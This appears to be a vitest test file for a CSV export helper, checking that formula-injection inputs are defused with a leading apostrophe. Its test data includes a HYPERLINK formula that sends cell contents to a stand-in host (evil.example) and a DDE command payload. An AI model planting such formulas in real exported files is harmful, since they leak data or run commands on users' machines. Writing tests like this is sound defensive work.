import { describe, expect, it } from 'vitest';
import { csvCell, csvOf } from './csv';

/** The first character a spreadsheet sees of a cell as written (inside the quotes of a quoted one). */
const firstSeen = (cell: string) => (cell.startsWith('"') ? cell.slice(1) : cell).charAt(0);

describe('CSV cells (formula injection)', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    '+1+cmd|/C calc!A0',
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    // what spreadsheets trim or convert before they look: leading blanks, line breaks, full-width signs
    ' =1+1',
    '\u00a0=1+1',
    '\n=1+1',
    '\u3000=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
  ])('makes %j inert: the cell starts with an apostrophe', (value) => {
    const cell = csvCell(value);
    expect(firstSeen(cell)).toBe("'");
    expect(cell.replace(/^"|"$/g, '').replace(/""/g, '"')).toBe(`'${value}`);
  });

  it('leaves ordinary text and numbers as they are', () => {
    expect(csvOf([['Flash sale', 'a=b', 'DE, FR', -3, 0.5, null]])).toBe(
      'Flash sale,a=b,"DE, FR",-3,0.5,\r\n',
    );
  });
});
